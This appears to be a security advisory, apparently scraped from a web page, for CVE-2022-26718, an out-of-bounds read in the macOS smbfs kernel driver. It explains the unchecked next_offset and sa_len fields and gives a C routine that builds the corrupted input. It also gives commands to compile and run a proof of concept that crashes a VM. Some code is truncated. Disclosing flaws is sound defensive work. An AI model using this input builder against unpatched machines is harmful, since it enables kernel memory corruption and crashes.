CVE: CVE-2022-26718

Tested Versions:

  • macOS 11.x.x <= 11.6.4
  • macOS 12.x.x <= 12.2.1

Product URL(s):

Description of the vulnerability

smbfs stands for Samba file system of macOS, which is used for communication and linking with Samba file server. smbfs allows usersto connect a remote shared folder to Finder.

smbfs is a macOS driver containing two components one is netsmb and the other one is smbfs, this driver also has public open source at this link but it is only available for macOS 11.5. netsmb is used to setup authentication, do initialization, send and receive data from SMB file server. smbfs was implemented as a filesystem handler for accessing from local users such as: open, read, write, copy operations in client machines.

The root cause of this vulnerability occurred in function:

int smb2_mc_parse_client_interface_array(
    struct session_network_interface_info* session_table,
    struct smbioc_client_interface* client_info)

This function could be reached via two IOCTL codes from userspace: SMBIOC_NOTIFIER_UPDATE_INTERFACES, SMBIOC_UPDATE_CLIENT_INTERFACES. The two IOCTL codes requires a defined structure as an input following by C code below:

* Multi Channel support
struct smbioc_client_interface {
    SMB_IOC_POINTER(struct network_nic_info*, info_array);
    uint32_t interface_instance_count;
    uint32_t total_buffer_size;
    uint32_t ioc_errno;
 * The raw NIC's info coming from the client and the server
 * Contains only one IP address
 * will be used to construct the complete_nic_info_entry
struct network_nic_info {
    uint32_t next_offset;
    uint32_t nic_index;
    uint32_tnic_caps;
    uint64_t nic_link_speed;
    uint32_t nic_type;
    in_port_t port;
    union { // alloc the largest sock addr possible
        struct sockaddr         addr;
        struct sockaddr_in      addr_4;
        struct sockaddr_in6     addr_16;
        struct sockaddr_storage addr_strg; // A place holder to make sure enough memory is allocated
                                           // for the largest possible sockaddr (ie NetBIOS's sockaddr_nb)

The implementation of function smb2_mc_parse_client_interface_array is simplifed in the snippets below:

 * Parse the client's network_interface_instance_info array and create a
 * complete_interface_info
    struct session_network_interface_info* session_table,
    struct smbioc_client_interface* client_info)
// … snipped …
struct network_nic_info * client_info_entry = (struct network_nic_info *) client_info_array;
    for (uint32_t counter = 0; counter < client_info->interface_instance_count; counter++) {
        in_blacklist = false;

        for (uint32_t i = 0; i < session_table->client_if_blacklist_len; i++)
            if (session_table->client_if_blacklist[i] == client_info_entry->nic_index)
                in_blacklist = true;

        error = smb2_mc_add_new_interface_info_to_list(&session_table->client_nic_info_list,
                                                       client_info_entry, 0, in_blacklist);
        if (error) {
            SMBERROR("Adding new interface info ended with error %d!", error);

        client_info_entry = (struct network_nic_info *) ((uint8_t*) client_info_entry + client_info_entry->next_offset);
//… snipped …The parser code doesn’t check value of client_info_entry->next_offset is size of struct network_nic_info, if an attacker set size of next_offset less than size of struct network_nic_info, this function will take this corrupted client_info_entry and pass directly to function smb2_mc_add_new_interface_info_to_list. After that, this function called function smb2_mc_update_info_with_ip which copy sockaddr struct inside client_info_entry which sa_len (member of sockaddr struct), this sa_len could be up to 255 bytes and can also manipulate by attackers.

static int
    struct complete_nic_info_entry* nic_info,
    struct sockaddr *addr,
    bool *changed)
// …
SMB_MALLOC(new_addr->addr, struct sockaddr *, addr->sa_len, M_NSMBDEV, M_WAITOK | M_ZERO);
    if (new_addr->addr == NULL) {
        SMB_FREE(new_addr, M_NSMBDEV);
        SMBERROR("failed to allocate struct sockaddr!");
        return ENOMEM;
    memcpy((void*) new_addr->addr, (void*) addr, addr->sa_len);if (addr->sa_family == AF_INET) {
        nic_info->nic_ip_types |= SMB2_MC_IPV4;
    } else {
        nic_info->nic_ip_types |= SMB2_MC_IPV6;
// …

The attacker can create an input buffer with two net_nic_info structs with total size is 0x60 bytes, then set next_offset value is 0x30 bytes, we set the value sa_len of two structs are 0xFF bytes. After that, we pass this struct to function smb2_mc_parse_client_interface_array, depending on kernel memory heap alignment, this could lead to memory corrupted while kernel trying to copy memory outside their allocation region. This code below will create a corrupted network_nic_info input, which could lead to memory out of bound read.

void create_corrupted_info_array(struct smbioc_client_interface *inf, struct network_nic_info*nic_info)
    struct network_nic_info *p_nic_info;

    int i;

    p_nic_info = nic_info;
    for(i = 0; i < inf->interface_instance_count; i++){
        p_nic_info->nic_index = i + 0x41414141;
        p_nic_info->next_offset = 0x30;
        p_nic_info->addr.sa_len = 0xFF;
        p_nic_info->addr.sa_data[3] = p_nic_info->addr.sa_data[3] + i;
        p_nic_info->addr.sa_data[0] = 0xFF;
        p_nic_info = (struct network_nic_info *)((void *)p_nic_info + sizeof(struct network_nic_info));

Proof Of Concept

Environment Setup

Requires a virtual machine with installed macOS newest version.

On the macOS VM compile and run the poc by following command:

clang -framework CoreFoundation -framework NetFS smbfs_oob_read.c -o smbfs_oob_read -g
./smbfs_oob_read <smb_server_ip>

Attaching a targeted virtual machine into lldb, then running the PoC and the virtual machine crashes following the imagebelow.


  • 2022-03-04 Disclosed to Vendor
  • 2022-05-16 Vendor patched